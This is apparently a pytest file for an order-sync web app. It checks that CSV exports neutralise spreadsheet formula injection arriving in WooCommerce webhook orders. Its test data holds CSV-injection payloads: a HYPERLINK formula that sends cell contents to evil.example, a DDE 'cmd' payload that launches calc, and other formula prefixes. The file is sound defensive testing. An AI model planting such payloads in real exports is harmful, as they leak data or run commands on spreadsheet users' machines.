"""CSV formula injection: hostile fields from a signed webhook reach every CSV export inert.

The attack: a shop (or whoever can place an order on it) puts formulas in the buyer's name,
the line titles, the SKUs and the order number; WooCommerce signs and sends the order; the
merchant exports the orders and opens the file in a spreadsheet. Every such cell must come
out with a leading quote (text, not a formula), every other cell exactly as before, and the
amounts we compute, a negative fee included, must stay numbers.
"""

from __future__ import annotations

import csv
import io
import json
import stat
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from tests.conftest import csrf_token
from tests.emulators.woocommerce import WooCommerceEmulator
from web import queue
from web.models import Job, Order, Shop, User
from web.models.enums import JobState, Role
from web.services import shops
from web.services.sync import run_sync

FIXTURE = Path(__file__).resolve().parents[1] / "fixtures" / "woocommerce"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "=cmd|' /C calc'!A0"


def hostile_order() -> dict[str, Any]:
    order = json.loads((FIXTURE / "fr-order-relay-coupon-refund.json").read_text())
    order["number"] = DDE
    order["billing"]["first_name"] = LINK
    order["billing"]["last_name"] = ""
    first, second = order["line_items"]
    first["name"], first["sku"] = "=1+2", "=SKU()"
    # Full-width equals and a leading "-": formulas to some spreadsheets as well.
    second["name"], second["sku"] = '＝HYPERLINK("http://evil.example")', "-2+3"
    # A discount the shop adds as a negative fee: our amount, a number, must stay one.
    order["fee_lines"] = [
        {
            "id": 9001,
            "name": "@SUM(1+1)*cmd",
            "tax_class": "",
            "tax_status": "none",
            "total": "-3.00",
            "total_tax": "0.00",
            "taxes": [],
            "meta_data": [],
        }
    ]
    order["total"] = f"{float(order['total']) - 3:.2f}"
    return order


HOSTILE = {
    "number": DDE,
    "customer": LINK,
    "line_name": ("=1+2", '＝HYPERLINK("http://evil.example")', "@SUM(1+1)*cmd"),
    "line_sku": ("=SKU()", "-2+3"),
}


@pytest.fixture()
def emulator() -> Iterator[WooCommerceEmulator]:
    with WooCommerceEmulator() as shop:
        yield shop  # type: ignore[misc]


@pytest.fixture()
def hostile(
    client: FlaskClient,
    emulator: WooCommerceEmulator,
    db_session: Session,
    session_factory: sessionmaker[Session],
) -> Order:
    """The hostile order, delivered by a signed webhook and applied by the sync."""
    shop = shops.create_shop(
        db_session,
        "woocommerce",
        "Atelier",
        emulator.base_url,
        api_key=emulator.consumer_key,
        api_secret=emulator.consumer_secret,
        webhook_secret=emulator.webhook_secret,
    )
    db_session.commit()
    order_id = emulator.add_order(hostile_order())
    body, headers = emulator.webhook("order.created", order_id)
    response = client.post(f"/hooks/woocommerce/{shop.key}", data=body, headers=headers)
    assert response.status_code == 200 and response.get_json()["status"] == "stored"
    run_sync(session_factory, shop.key)
    db_session.expire_all()
    order = db_session.scalars(select(Order).join(Shop).where(Shop.key == shop.key)).one()
    # What the shop sent is stored as sent: the defence is at the export, not the intake.
    assert order.number == DDE and order.customer_name == LINK
    return order


def assert_neutralised(text: str, order: Order) -> None:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 3  # two products and the fee
    for row in rows:
        assert row["number"] == "'" + DDE
        assert row["customer"] == "'" + LINK
        # Everything else as it was: the plain cells untouched.
        assert row["shop"] == order.shop.key
        assert row["external_id"] == order.external_id
        assert row["email"] == order.email
        assert row["grand_total"] == str(order.grand_total)
        assert row["placed_at"].startswith(order.placed_at.strftime("%Y-%m-%d"))
    assert {row["line_name"] for row in rows} == {"'" + name for name in HOSTILE["line_name"]}
    assert [row["line_sku"] for row in rows] == ["'=SKU()", "'-2+3", ""]
    fee = next(row for row in rows if row["line_name"].startswith("'@"))
    assert (fee["line_unit_price"], fee["line_total_gross"]) == ("-3.00", "-3.00")
    assert rows[0]["line_unit_price"] == "8.90"  # at the shop's precision, as before
    # No cell, anywhere in the file, opens as a formula.
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell[:1] in ("=", "+", "@", "\t", "\r", "＝"):
                pytest.fail(f"formula cell {cell!r}")
            if cell[:1] == "-":
                assert cell == "-3.00", cell


def test_the_bulk_export_downloaded_over_http_shows_the_formulas_as_text(
    app: Flask,
    client: FlaskClient,
    login_as: Callable[..., User],
    db_session: Session,
    session_factory: sessionmaker[Session],
    hostile: Order,
) -> None:
    login_as(Role.VIEWER)
    token = csrf_token(client, "/orders/")
    response = client.post(
        "/orders/bulk",
        data={"op": "export_csv", "ids": [str(hostile.id)]},
        headers={"HX-Request": "true", "X-CSRFToken": token},
    )
    assert response.status_code == 200
    assert queue.run_pending(session_factory) == 1
    db_session.expire_all()
    job = db_session.scalars(select(Job).order_by(Job.id.desc())).first()
    assert job is not None and job.state == JobState.DONE, job and job.error

    download = client.get(f"/orders/bulk/jobs/{job.id}/download")
    assert download.status_code == 200
    assert_neutralised(download.get_data(as_text=True), hostile)

    folder = Path(job.payload["folder"])
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert stat.S_IMODE((folder / job.result["file"]).stat().st_mode) == 0o600


def test_the_cli_export_file_shows_the_formulas_as_text_and_is_private(
    app: Flask, hostile: Order, tmp_path: Path
) -> None:
    target = tmp_path / "orders.csv"
    result = app.test_cli_runner().invoke(args=["orders", "export", "-o", str(target)])
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert_neutralised(target.read_text(encoding="utf-8"), hostile)

    # Written over, a file that was world-readable is replaced by a private one.
    target.write_text("old")
    target.chmod(0o644)
    assert app.test_cli_runner().invoke(args=["orders", "export", "-o", str(target)]).exit_code == 0
    assert stat.S_IMODE(target.stat().st_mode) == 0o600

    to_stdout = app.test_cli_runner().invoke(args=["orders", "export"])
    assert_neutralised(to_stdout.output, hostile)
